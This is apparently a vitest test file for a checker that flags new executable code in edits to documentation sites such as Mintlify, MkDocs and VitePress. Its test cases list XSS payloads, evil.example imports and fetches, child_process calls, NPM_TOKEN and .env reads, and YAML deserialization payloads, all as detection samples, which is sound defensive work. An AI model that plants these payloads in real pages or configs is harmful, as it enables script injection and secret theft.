import { expect, test } from "vitest";
import { wholeReaderOf } from "../testing.ts";
import { readCodeDialect } from "./code-dialect.ts";
import { compareCode } from "./page-code.ts";

const PAGE = "---\ntitle: Home\ndescription: A page.\n---\n\n# Home\n\nHello there.\n";

const SITES: Record<string, { files: Record<string, string>; path: string; page: string }> = {
  mintlify: {
    files: { "docs.json": '{ "navigation": ["index"] }' },
    path: "index.mdx",
    page: `---\ntitle: Home\nicon: "house"\n---\n\nimport Snippet from "/snippets/intro.mdx";\n\nexport const plan = "pro";\n\nHello there, {plan} user.\n\n<Card title="A" href="/a" icon={plan}>Text</Card>\n\n\`\`\`js\nconst a = { b: 1 };\n\`\`\`\n`,
  },
  docusaurus: {
    files: { "docusaurus.config.js": "module.exports = {}" },
    path: "docs/index.md",
    page: `---\nsidebar_label: Home\n---\n\nimport Tabs from '@theme/Tabs'\n\n# Home {#home}\n\n<!-- a comment -->\n\nHello there.\n\n<Tabs groupId="os" values={[{ label: "Mac", value: "mac" }]} onChange={(v) => v} />\n`,
  },
  nextra: {
    files: { "pages/_meta.json": "{}" },
    path: "pages/index.mdx",
    page: `import { Callout, Tabs } from 'nextra/components'\n\n# Home\n\nHello there.\n\n<Tabs items={['npm', 'pnpm']}>x</Tabs>\n`,
  },
  fumadocs: {
    files: { "content/docs/meta.json": '{ "pages": ["index"] }' },
    path: "content/docs/index.mdx",
    page: `---\ntitle: Home\n---\n\nimport { Rocket } from 'lucide-react';\n\nHello there.\n\n<Cards>\n  <Card icon={<Rocket />} title="A" href="/a" />\n</Cards>\n`,
  },
  mkdocs: {
    files: { "mkdocs.yml": "site_name: X\n" },
    path: "docs/index.md",
    page: `# Home\n\nHello there.\n\n!!! note\n\n    Text with \`{ code }\`.\n\n![a](a.png){ width=300 }\n\n=== "Tab"\n\n    Text.\n`,
  },
  vitepress: {
    files: { ".vitepress/config.ts": "export default {}" },
    path: "index.md",
    page: `---\ntitle: Home\nhead:\n  - - meta\n    - name: description\n      content: Old words\n---\n\n<script setup>\nimport data from './data.ts'\n</script>\n\n# Home\n\nHello there, {{ data.name }}.\n\n<a :href="data.url">x</a>\n\n::: tip\nText\n:::\n`,
  },
};

const dialectOf = (files: Record<string, string>) => readCodeDialect(wholeReaderOf(files));

async function added(site: string, path: string, before: string | null, after: string) {
  const dialect = await dialectOf({ ...SITES[site]?.files, [path]: before ?? "" });
  return compareCode({ path, text: after }, before === null ? [] : [{ path, text: before }], dialect).added;
}

const inMdx = [
  "{globalThis.process.getBuiltinModule('child_process').execSync('id')}",
  "Text {process.env.NPM_TOKEN} text",
  '<div dangerouslySetInnerHTML={{ __html: "<img src=x>" }} />',
  '<div dangerouslySetInnerHTML="x" />',
  "<Card {...process.env} />",
  "<Card {...{ onClick: 1 }} />",
  "<Card title={title()} />",
  "<Card title={`a${process.env.X}`} />",
  "<Card items={[1, process.exit()]} />",
  "<Card data={{ [process.exit()]: 1 }} />",
  "<Card data={{ get a() { return 1 } }} />",
  "<Card data={{ __proto__: null }} />",
  "<Card icon={<a href={process.env.X} />} />",
  '<Card icon={<a href="javascript:alert(1)" />} />',
  "<Card onClick={() => 1} />",
  '<img src="x" onerror="alert(1)" />',
  '<svg onload="alert(1)"></svg>',
  'import x from "https://evil.example/x.js"',
  'import "./side-effect.js"',
  "export const x = fetch('https://evil.example')",
  "export { default } from './x'",
  'export * from "https://evil.example/x.js"',
  "<script>alert(1)</script>",
  '<script src="https://evil.example/x.js" />',
  "<style>{`a{}`}</style>",
  '<iframe srcDoc="<script>1</script>" />',
  '<object data="x.svg" />',
  '<embed src="x.swf" />',
  '<base href="https://evil.example/" />',
  '<meta httpEquiv="refresh" content="0;url=https://evil.example" />',
  '<link rel="stylesheet" href="https://evil.example/x.css" />',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert%281%29)",
  "[x](&#106;avascript:alert%281%29)",
  "[x](java&Tab;script&colon;alert%281%29)",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript\\:alert%281%29)",
  "[x](vbscript:x)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](data:text/html,x)",
  "[x][r]\n\n[r]: javascript:alert%281%29",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<Card href={"javascript:alert(1)"}>x</Card>',
  '<form action=" javascript:alert(1)" />',
  "<a.b.c />",
  "<include>../../.env</include>",
  "Text {/* a */ fetch('x')}",
  "{await fetch('x')}",
  "{`${1}`}",
];

test.each(inMdx)("in MDX, %j is new code", async (code) => {
  expect(await added("mintlify", "page.mdx", PAGE, `${PAGE}\n${code}\n`)).not.toEqual([]);
  expect(await added("docusaurus", "docs/page.md", null, `${PAGE}\n${code}\n`)).not.toEqual([]);
});

test.each([
  ...inMdx.filter(
    (code) =>
      code.startsWith("[x]") ||
      code.startsWith("![") ||
      /^<(?:img|svg|script|object|embed|base|link|a href)/.test(code),
  ),
  "<SCRIPT>alert(1)</SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img/src=x /onerror=alert(1)>",
  '<a title="<b" onclick="x">y</a>',
  '<a title="1 < 2" onclick="x">y</a>',
  "<a title='\n\n' onmouseover=x>",
  "<javascript:alert(1)>",
  "<style>@import url(https://evil.example/x.css)</style>",
  '<p style="background: expression(alert(1))">x</p>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0">',
  "[x](y){ onclick=alert(1) }",
  "[x](y){: href='javascript:alert(1)' }",
  "````\n```\n<script>alert(1)</script>\n````````",
  "<svg><animate attributeName=href values='x;javascript:alert(1)' /></svg>",
  '--8<-- "../../.env"',
  "<!--@include: ../../.env-->",
  "<<< ../../.env",
])("in Markdown, %j is new code", async (code) => {
  expect(await added("mkdocs", "docs/page.md", PAGE, `${PAGE}\n${code}\n`)).not.toEqual([]);
});

test.each([
  "{{ constructor.constructor('alert(1)')() }}",
  '<p v-html="x"></p>',
  '<p v-on:click="x"></p>',
  '<button @click="x">y</button>',
  '<a :href="x">y</a>',
  '<Comp #default="{ a = alert(1) }" />',
  "```js-vue\n{{ alert(1) }}\n```",
  "    {{ alert(1) }}",
  "# A {{ alert(1) }}",
])("in VitePress, %j is new code", async (code) => {
  expect(await added("vitepress", "page.md", PAGE, `${PAGE}\n${code}\n`)).not.toEqual([]);
});

test.each([
  ["mkdocs.yml", "site_name: X\nplugins:\n  - macros\n", "docs/page.md", "`{{ config.x }}`"],
  ["mkdocs.yml", "site_name: X\nplugins:\n  - macros\n", "docs/page.md", "```\n{% set x = 1 %}\n```"],
  ["_config.yml", "title: X\n", "page.md", "{{ site.x }}"],
])("with %s, templates run, also in code blocks: %s %s %s", async (config, text, path, code) => {
  const dialect = await dialectOf({ [config]: text, [path]: "" });

  expect(compareCode({ path, text: `${PAGE}\n${code}\n` }, [{ path, text: PAGE }], dialect).added).not.toEqual([]);
});

test.each([
  ["head:\n  - - script\n    - {}\n    - alert(1)"],
  ["head:\n  - tag: script\n    content: alert(1)"],
  ["head:\n  - - meta\n    - http-equiv: refresh\n      content: 0"],
  ["hero:\n  link: javascript:alert(1)"],
  ["hero:\n  text: <img src=x onerror=alert(1)>"],
  ["x: !!js/function 'function () {}'"],
  ["head: [[script, {}, 'alert(1)']"],
])("in front matter, %j is new code", async (yaml) => {
  const after = PAGE.replace("description: A page.", yaml);

  expect(await added("vitepress", "page.md", PAGE, after)).not.toEqual([]);
});

test("front matter that says it is JavaScript is new code", async () => {
  expect(await added("vitepress", "page.md", null, "---js\n{ title: process.env.X }\n---\n\n# A\n")).not.toEqual([]);
});

test.each([
  ["mkdocs.yml", "site_name: X\n", "site_name: X\nhooks:\n  - evil.py\n"],
  ["mkdocs.yml", "site_name: X\n", "site_name: X\nextra_javascript: [https://evil.example/x.js]\n"],
  ["mkdocs.yml", "plugins:\n  - search\n", "plugins:\n  - search\n  - exec\n"],
  ["mkdocs.yml", "site_name: X\n", "site_name: !!python/object/apply:os.system ['id']\n"],
  ["mkdocs.yml", "site_name: X\n", "site_name: !ENV NPM_TOKEN\n"],
  ["mkdocs.yml", "site_name: X\n", "<<: { hooks: [evil.py] }\nsite_name: X\n"],
  ["mkdocs.yml", "nav:\n  - A: a.md\n", "nav:\n  - A: javascript:alert(1)\n"],
  ["docs.json", '{"navigation":[]}', '{"navigation":[],"integrations":{"gtm":{"tagId":"GTM-X"}}}'],
  ["docs.json", '{"navigation":[]}', '{"navigation":[{"href":"javascript:alert(1)"}]}'],
  ["docs.json", '{"navigation":[]}', '{"navigation":[],"banner":{"content":"<img src=x onerror=alert(1)>"}}'],
  ["_category_.json", "{}", '{"link":{"href":"data:text/html,x"}}'],
])("in %s, %j may not become %j", async (path, before, after) => {
  expect(await added("mintlify", path, before, after)).not.toEqual([]);
});

test.each([
  [
    "mkdocs.yml",
    "site_name: X\nnav:\n  - A: a.md\nplugins: [search]\n",
    "site_name: Y\nnav:\n  - A: a.md\n  - B: b.md\nplugins: [search]\n",
  ],
  ["docs.json", '{"navigation":["a"],"integrations":{"x":1}}', '{"navigation":["a","b"],"integrations":{"x":1}}'],
  ["meta.json", '{"pages":["a"]}', '{"title":"On click","pages":["a","---Scripts---","b"]}'],
])("navigation of %s may change beside what it has: %j, %j", async (path, before, after) => {
  expect(await added("mintlify", path, before, after)).toEqual([]);
});

/** Edits that people ask for every day; where there is nothing to replace, the text goes below the page. */
const EVERYWHERE: readonly (readonly [old: string, young: string])[] = [
  ["Hello there", "Welcome"],
  ["Hello there", "Hello **there**"],
  ["", "## A new section\n\nWith text."],
  ["", "- one\n- two\n  - three"],
  ["", "1. one\n2. two"],
  ["", "| a | b |\n| - | - |\n| 1 | 2 |"],
  ["", "```js\nimport x from 'y'\nexport const a = { b: process.env.X }\n```"],
  ["", "~~~html\n<script>alert(1)</script>\n~~~"],
  ["", '```jsx\n<a onClick={() => alert(1)} href="javascript:x" />\n```'],
  ["", "Call `import x from 'y'` or `{process.env.X}`."],
  ["", "Write `javascript:` addresses never."],
  ["", "JavaScript: the good parts."],
  ["", "Import your data before you export the report."],
  ["", '[a](/guide/install#steps "Title")'],
  ["", "[a](https://example.com/?q=1&b=2)"],
  ["", "[mail](mailto:a@example.com)"],
  ["", "![A picture](/images/a.png)"],
  ["", "[ref][r]\n\n[r]: https://example.com"],
  ["", "> A quote\n> of two lines"],
  ["", "Turn it on = better, one < two, 3 > 2."],
  ["", "Press <kbd>Ctrl</kbd>."],
  ["", '<img src="/a.png" alt="JavaScript: a picture" width="300" />'],
  ["", '<iframe src="https://www.youtube.com/embed/x" title="Video" />'],
  ["", "<details>\n<summary>More</summary>\n\nText\n\n</details>"],
  ["", "Prices begin at $5 and end at $10."],
];
const OF_DIALECT: Record<string, readonly (readonly [string, string])[]> = {
  mintlify: [
    ["", '<Card title="B" icon="star" href="/b">Text</Card>'],
    ["", '<Frame><img src="/a.png" /></Frame>'],
    ["", "Hello {plan} again."],
    ["", "<CardGroup cols={2}></CardGroup>"],
    ["", '<Steps>\n  <Step title="One">Text</Step>\n</Steps>'],
    ["", "{/* a comment */}"],
  ],
  docusaurus: [
    ["Hello there", ":::tip\n\nHi\n\n:::"],
    ["a comment", "another comment"],
    ["", '<TabItem value="npm" default>x</TabItem>'],
    ["# Home", "# Start"],
  ],
  nextra: [
    ["'npm', 'pnpm'", "'npm', 'pnpm', 'yarn'"],
    ["", '<Callout type="info" emoji="💡">Text</Callout>'],
  ],
  fumadocs: [
    ["", '<Card icon={<Rocket />} title="B" href="/b" />'],
    ["", "<Tab value={'npm'}>x</Tab>"],
    ["", '<TypeTable type={{ a: { type: "string", default: "x" } }} />'],
  ],
  mkdocs: [
    ["", "import your data before you start"],
    ["", '!!! warning "Careful"\n\n    Text.'],
    ["", "![b](b.png){ width=200 align=right }"],
    ["", "[Button](a.md){ .md-button }"],
    ["", "## Title { #own-id }"],
    ["", "In a plain site, `{{ x }}` and {{ x }} are text."],
  ],
  vitepress: [
    ["", "::: warning\nText\n:::"],
    ["", "Use `{{ x }}` in a template."],
    ["", '```html\n<p v-html="x">{{ y }}</p>\n```'],
    ["Old words", "New words"],
    ["", "## Title {#own-id}"],
    ["", '<Badge type="tip" text="new" />'],
  ],
};

for (const [site, { path, page }] of Object.entries(SITES)) {
  test.each([...EVERYWHERE, ...(OF_DIALECT[site] ?? [])])(
    `in a page of ${site}, %j may become %j`,
    async (old, young) => {
      const after = old === "" ? `${page}\n${young}\n` : page.replace(old, young);

      expect(after).not.toBe(page);
      expect(await added(site, path, page, after)).toEqual([]);
    },
  );
}

test("a page of plain components and literal attributes may be new", async () => {
  const page = `${PAGE}\n<Card title="A" href="/a" cols={2} isOpen tags={["a", "b"]}>Text</Card>\n`;

  expect(await added("mintlify", "new.mdx", null, page)).toEqual([]);
});

test("code that stood in the page may stand there again, and is told apart from new code", async () => {
  const path = "index.mdx";
  const before = `${PAGE}\n{user.name}\n`;
  const dialect = await dialectOf({ "docs.json": '{ "navigation": [] }', [path]: before });

  const { added: fresh, repeated } = compareCode(
    { path, text: `${before}\n{ user.name }\n{user.name}\n` },
    [{ path, text: before }],
    dialect,
  );

  expect(fresh.map(({ text }) => text)).toEqual(["{ user.name }"]);
  expect(repeated.map(({ line, text }) => [line, text])).toEqual([[13, "{user.name}"]]);
});

test("an attribute's value is not code that another attribute may have", async () => {
  const before = `${PAGE}\n<Card title={name} />\n`;

  expect(await added("mintlify", "a.mdx", before, before.replace("title={name}", "href={name}"))).toHaveLength(1);
});

test("a page that does not parse may change its words, and gains no code", async () => {
  const broken = `${PAGE}\n<Card title={name}>\n\nText with { open braces.\n`;

  expect(await added("mintlify", "a.mdx", broken, broken.replace("Hello", "Welcome"))).toEqual([]);
  expect(
    await added(
      "mintlify",
      "a.mdx",
      broken,
      broken.replace("<Card title={name}>", "<Card title={name} />").replace("{ open", "\\{ open"),
    ),
  ).toEqual([]);
  for (const code of [
    "{process.env.X}",
    "import x from 'y'",
    "export const y = 1",
    "<img onerror=x>",
    "[a](javascript:x)",
  ])
    expect(await added("mintlify", "a.mdx", broken, `${broken}\n${code}\n`), code).not.toEqual([]);
});

test("an edit may not break a page to hide code in it", async () => {
  for (const code of [
    "<!-- {process.env.X} -->",
    "`<!--` {process.env.X} `-->`",
    "<!-- */}{process.env.X}{/* -->",
    "$x {process.env.X} \\a$$",
  ])
    expect(await added("docusaurus", "docs/a.md", PAGE, `${PAGE}\n${code}\n`), code).not.toEqual([]);
});

test("an import of the same file is the same from another folder", async () => {
  const dialect = await dialectOf({ "docs.json": '{ "navigation": [] }' });
  const moved = { path: "deep/er/a.mdx", text: 'import X from "../../snippets/x.mdx"\n\n<X />\n' };
  const before = { path: "a.mdx", text: "import X from './snippets/x.mdx';\n\n<X />\n" };

  expect(compareCode(moved, [before], dialect).added).toEqual([]);
  expect(compareCode({ ...moved, path: "deep/a.mdx" }, [before], dialect).added).toHaveLength(1);
});

const HOSTILE = [
  "{",
  "}",
  "{{",
  "<",
  "<a ",
  '<a b="',
  "<script>",
  "<script ",
  "](",
  "](:",
  "]:&#9;",
  "`",
  "```\n",
  "~~~\n```\n",
  "{=",
  "{ a=<",
  "import {\n",
  "export const a = [\n",
  "&#",
  "<!--",
  "$",
  "{%",
  "<<<\n",
  "<a b='\"<",
  "[x](javascript:",
  "\\",
  "- ",
  "> ",
  "*_",
  "|",
  "&colon;",
  "a: &a\n",
  "<Card {...x} ",
];

test.each(["page.mdx", "docs/page.md", "mkdocs.yml", "docs.json"])(
  "the cost of hostile text in %s grows with its length alone",
  async (path) => {
    const dialect = { mdxFolders: [], vueFolders: ["docs"], hasTemplates: true };
    const cost = (text: string) => {
      const before = process.cpuUsage();
      compareCode({ path, text }, [{ path, text: "# A\n" }], dialect);
      const { user, system } = process.cpuUsage(before);
      return user + system;
    };
    for (const piece of HOSTILE) {
      const text = (size: number) => piece.repeat(Math.ceil(size / piece.length));
      cost(text(4_000));
      const [small, large] = [cost(text(8_000)), cost(text(64_000))];
      expect(large, `${JSON.stringify(piece)}: ${small} and ${large} µs`).toBeLessThan(Math.max(small, 25_000) * 24);
    }
  },
);
